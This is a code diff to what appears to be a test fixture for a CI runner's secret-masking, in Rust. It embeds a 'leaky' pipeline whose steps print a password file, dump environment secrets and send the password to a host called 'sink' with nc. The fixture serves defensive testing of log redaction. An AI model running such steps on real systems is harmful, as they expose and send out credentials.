@@ -35,6 +35,8 @@ const FORMS: [&str; 12] = [
     "bGluZS10d28tb2YtdGhlLWtle",
 ];
 
+/// The sink answers whoever connects, and `nc` ends with that answer: what it is to send must be there by then, in a file and not in
+/// a pipe that is still to be filled.
 const LEAKY: &str = r#"
 name: leaky
 stages: [a]
@@ -61,7 +63,7 @@ jobs:
       - cat "$PASSWORD_FILE" && env | grep PASSWORD && set -x && true "$PASSWORD"; set +x
       - printf '%s\n' "$KEY" | while IFS= read -r line; do echo "> $line"; sleep 0.1; done
       - echo "$PASSWORD" >&2; ls "$PASSWORD" || true
-      - until [ "$(echo "got $PASSWORD" | nc sink 5432)" = ok ]; do sleep 0.1; done
+      - echo "got $PASSWORD" >/tmp/got; until [ "$(nc sink 5432 </tmp/got)" = ok ]; do sleep 0.1; done
       - echo all is said
       - while [ ! -e /tmp/go ]; do sleep 0.1; done
       - '"$PASSWORD"'
